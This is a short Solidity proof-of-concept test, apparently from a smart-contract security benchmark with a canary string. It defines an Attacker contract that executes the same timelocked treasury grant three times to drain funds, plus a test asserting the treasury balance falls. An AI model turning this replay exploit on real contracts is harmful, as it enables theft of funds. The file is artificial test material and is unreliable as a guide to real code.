// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker {
    function run(ParameterTimelock timelock, address treasury, bytes calldata grant) external {
        for (uint256 i = 0; i < 3; i++) {
            timelock.execute(treasury, grant, "first grant");
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(timelock, address(treasury), abi.encodeCall(Treasury.spend, (usd, GRANTEE, 50_000e6)));
    }

    function test_Exploit() public {
        exploit();
        require(treasuryFunds() < 60_000e6, "nothing was paid");
    }

    function target() public view override returns (address) {
        return address(timelock);
    }

    function treasuryFunds() public view returns (uint256) {
        return usd.balanceOf(address(treasury));
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
